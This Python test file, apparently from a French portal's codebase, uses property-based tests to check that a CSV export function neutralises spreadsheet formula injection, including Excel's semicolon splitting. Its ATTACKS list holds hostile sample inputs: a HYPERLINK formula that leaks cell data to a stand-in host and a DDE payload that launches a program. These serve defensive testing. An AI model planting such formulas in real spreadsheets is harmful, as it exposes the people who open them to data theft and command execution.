"""What people type stays text in a CSV, whatever separator the reader
splits on. Excel with French regional settings opens a comma CSV splitting
each line on ``;`` (quoted or not), so a message ``Bonjour;=HYPERLINK(...)``
would put a live formula in a cell of its own: every part of a value that
follows ``,``, ``;`` or a line break, and starts (after double quotes) with
a formula character, gets the apostrophe that keeps it text
(aquatiris_portal/spreadsheets.py, ``safe_cell``)."""

import csv
import io
import re
from types import SimpleNamespace

from hypothesis import example, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from aquatiris_portal.spreadsheets import FORMULA_STARTS, SpreadsheetWriter, safe_cell

# Where a reader may begin a cell: after these, in the raw text of a value or of a line.
PART_SEPARATORS = re.compile(r"[,;\r\n]")

# Text made mostly of the characters that matter, so that Hypothesis meets
# separators, quotes and formula starts next to each other.
TRICKY = st.text(alphabet=st.sampled_from(list(",;\"'\r\n\t =+-@ aZé0")) | st.characters(), max_size=60)

ATTACKS = [
    'Bonjour;=HYPERLINK("https://evil.example/?"&A2;"Cliquez")',
    "Bonjour,=1+2",
    'x;"=1+2"',
    "Merci\n=cmd|' /C calc'!A0",
    "a;;+33 6 00 00 00 01",
    "a\r-2+3",
    "note;@SUM(A1:A9)",
    'a;""=1',
]


def starts_a_formula(text):
    """Whether a cell holding ``text`` starts (after double quotes) a formula.
    A CR followed by LF is a line break (browsers send them in every
    message), not a cell starting with CR; a lone CR is."""
    text = text.lstrip('"')
    return text.startswith(FORMULA_STARTS) and not text.startswith("\r\n")


def formula_parts(text):
    """The parts of ``text`` a spreadsheet could read as a formula."""
    parts = PART_SEPARATORS.split(text)
    return [part for part in parts if starts_a_formula(part)]


def needs_change(text):
    """Whether a reader could start a cell with a formula somewhere in ``text``:
    at its start or after a separator, after any double quotes. Written as a
    loop, independently of the neutraliser's regular expression."""
    for index in range(len(text)):
        if index == 0 or text[index - 1] in ",;\r\n":
            if starts_a_formula(text[index:]):
                return True
    return False


def writable(text):
    """``text`` as a file can hold it: a lone surrogate, which UTF-8 cannot
    encode, is U+FFFD."""
    return re.sub("[\ud800-\udfff]", "\ufffd", text)


def only_apostrophes_added(original, result):
    """``result`` is ``original`` (as a file can hold it) with apostrophes inserted, nothing else."""
    original = writable(original)
    position = 0
    for char in result:
        if position < len(original) and char == original[position]:
            position += 1
        elif char != "'":
            return False
    return position == len(original)


@given(TRICKY)
@example(ATTACKS[0])
@example("\t=1")
@example("\r\r=1")
def test_no_part_of_a_neutralised_value_starts_a_formula(text):
    assert formula_parts(safe_cell(text)) == []


@given(TRICKY)
def test_neutralising_twice_changes_nothing_more(text):
    once = safe_cell(text)
    assert safe_cell(once) == once


@given(TRICKY)
@example("\r")
@example(",\r")
@example('a;"""+1')
@example("a\ud800")
def test_only_apostrophes_are_added_and_safe_text_is_unchanged(text):
    result = safe_cell(text)
    assert only_apostrophes_added(text, result)
    assert (result != writable(text)) == needs_change(text)
    assert not needs_change(result)


def test_the_french_excel_attack_is_neutralised_where_it_starts():
    assert safe_cell('Bonjour;=HYPERLINK("x")') == 'Bonjour;\'=HYPERLINK("x")'
    assert safe_cell("Bonjour,=1+2") == "Bonjour,'=1+2"
    assert safe_cell('x;"=1+2"') == 'x;\'"=1+2"'
    assert safe_cell("Merci\n=1+2") == "Merci\n'=1+2"
    # What needs nothing keeps its exact text: numbers, dates, prose, a space before "=".
    for text in ("12,5", "Saint-Malo; 35400", "a=b", "Bonjour; =1", "1;2;3", "", "déjà"):
        assert safe_cell(text) == text
    for value in (12, 1.5, None):
        assert safe_cell(value) is value


# --- a real file, read back the way each reader splits it ----------------------------------


def exported_csv(values):
    rows = [SimpleNamespace(name=value, city="Rennes") for value in values]
    writer = SpreadsheetWriter(None, ["name", "city"], export_headings={"name": "Nom", "city": "Ville"})
    output = io.BytesIO()
    writer.write(SpreadsheetWriter.FORMAT_CSV, rows, output)
    assert writer.rows_written == len(values)
    return output.getvalue().decode("utf-8-sig")


@hypothesis_settings(max_examples=60)
@given(st.lists(TRICKY, min_size=1, max_size=5))
@example(["\ud800"])  # a lone surrogate, as JSON's "\\ud800" decodes, cannot be written as UTF-8
def test_a_written_csv_has_no_formula_cell_whatever_the_separator(values):
    text = exported_csv(values + ATTACKS)
    # A standard reader (comma): each cell is what was typed, apostrophes added only where needed.
    cells = [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert cells == [safe_cell(value) for value in values + ATTACKS]
    # A French Excel (";"), with csv's quoting rules and with none at all:
    # no cell, once its quotes are taken off, starts a formula.
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
        for cell in row:
            assert not starts_a_formula(cell), cell
    assert formula_parts(text) == []
